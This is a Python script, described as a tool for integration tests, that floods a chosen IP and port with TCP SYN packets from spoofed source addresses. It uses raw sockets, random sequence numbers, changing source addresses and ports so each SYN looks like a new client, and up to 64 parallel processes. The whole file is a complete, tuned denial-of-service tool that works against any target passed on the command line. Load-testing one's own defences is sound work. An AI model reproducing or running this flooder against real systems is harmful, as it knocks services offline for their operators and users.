#!/usr/bin/env python3
"""Spoofed-SYN flooder for the integration tests (stdlib only, root).

  syn_flood.py DST_IP DST_PORT [--src-net A.B.C] [--secs S] [--max N]
               [--procs P]

Sends TCP SYNs to DST_IP:DST_PORT as fast as P processes (default 1) can,
for --secs seconds (default 5), or --max SYNs each, or until SIGTERM or
SIGINT, from A.B.C.1-254 (default
198.51.100, TEST-NET-2: nobody there answers, and a target without a route
back drops its SYN-ACKs). Every SYN has its own 4-tuple (the source address
changes with each SYN, the source port after every 254) and a random ISN,
so each one looks like a new client to the target, and carries an MSS
option (1460) as real clients do. Packets are built here with IP_HDRINCL on
a raw socket (much faster than scapy): the TCP checksum is the sum of a
precomputed part and the fields that change; the kernel fills in the IPv4
header checksum (raw(7): "always filled in"), which we compute anyway.

Prints one line, the sums over the processes, and exits 0 (1 if nothing
could be sent):
  flood procs=P sent=N secs=T pps=R errors=E
"""
import argparse
import os
import random
import signal
import socket
import struct
import sys
import time


def csum_fold(s):
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return s


def words(b):
    """Sum of the 16-bit big-endian words of b (even length)."""
    return sum(struct.unpack("!%dH" % (len(b) // 2), b))


STOP = False


def on_signal(sig, frame):
    global STOP
    STOP = True


def flood(a, first, step, out):
    """One flooder: sources A.B.C.first, first + step, ...; writes
    "sent errors secs" to the pipe @out."""
    dst = socket.inet_aton(a.dst)
    net = socket.inet_aton(a.src_net + ".0")
    # IPv4 (20) + TCP (20) + MSS option (4); src, sport, seq and checksums vary
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 44, 0, 0, 64, socket.IPPROTO_TCP,
                               0, net, dst))
    tcp = bytearray(struct.pack("!HHIIBBHHH", 0, a.port, 0, 0, 6 << 4, 0x02, 64240, 0, 0)
                    + struct.pack("!BBH", 2, 4, 1460))
    # pseudo-header (src added per packet) + the fixed TCP words
    tcp_fixed = words(dst) + socket.IPPROTO_TCP + len(tcp) + words(bytes(tcp))
    ip_fixed = words(bytes(ip))  # src (zero so far) added per packet

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    addr = (a.dst, 0)
    base = struct.unpack("!I", net)[0]
    rnd = random.Random(os.urandom(8))
    pkt = ip + tcp
    sent = errors = 0
    host, sport = first, 1024
    t0 = time.monotonic()
    end = t0 + a.secs
    pack_into, sendto = struct.pack_into, s.sendto
    while True:
        # the clock is read once per 256 SYNs: it costs as much as building one
        if (sent + errors) & 255 == 0 and (STOP or time.monotonic() >= end):
            break
        if a.max and sent >= a.max:
            break
        src = base + host
        seq = rnd.getrandbits(32)
        sw = (src >> 16) + (src & 0xffff)
        tc = csum_fold(tcp_fixed + sw + sport + (seq >> 16) + (seq & 0xffff))
        ic = csum_fold(ip_fixed + sw)
        pack_into("!H", pkt, 10, ic ^ 0xffff)
        pack_into("!I", pkt, 12, src)
        pack_into("!HHI", pkt, 20, sport, a.port, seq)
        pack_into("!H", pkt, 36, tc ^ 0xffff)
        try:
            sendto(pkt, addr)
            sent += 1
        except OSError:  # ENOBUFS: the qdisc is full; go on
            errors += 1
        host += step
        if host > 254:
            host = first
            sport = sport + 1 if sport < 65535 else 1024
    os.write(out, b"%d %d %.3f" % (sent, errors, time.monotonic() - t0))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("dst")
    p.add_argument("port", type=int)
    p.add_argument("--src-net", default="198.51.100",
                   help="the first three octets of the spoofed sources")
    p.add_argument("--secs", type=float, default=5.0)
    p.add_argument("--max", type=int, default=0,
                   help="each process stops after this many SYNs (0: no limit)")
    p.add_argument("--procs", type=int, default=1)
    a = p.parse_args()
    if not 1 <= a.procs <= 64:
        p.error("--procs: 1..64")

    # one process per flooder (one Python thread cannot use two cores); each
    # takes every procs-th source address, so no two send the same 4-tuple
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    kids = []
    for i in range(a.procs):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(r)
            try:
                flood(a, 1 + i, a.procs, w)
            finally:
                os._exit(0)
        os.close(w)
        kids.append((pid, r))
    # the children have the same handler; pass the signal on
    signal.signal(signal.SIGTERM, lambda sig, frame: [os.kill(k, sig) for k, _ in kids])
    signal.signal(signal.SIGINT, lambda sig, frame: [os.kill(k, sig) for k, _ in kids])
    sent = errors = 0
    secs = 0.0
    for pid, r in kids:
        b = b""
        while True:
            c = os.read(r, 64)  # PEP 475: retried after a signal
            if not c:
                break
            b += c
        os.waitpid(pid, 0)  # retried too
        if b:
            n, e, t = b.split()
            sent, errors, secs = sent + int(n), errors + int(e), max(secs, float(t))
    print("flood procs=%d sent=%d secs=%.2f pps=%.0f errors=%d"
          % (a.procs, sent, secs, sent / max(secs, 1e-6), errors))
    sys.exit(0 if sent else 1)


if __name__ == "__main__":
    main()
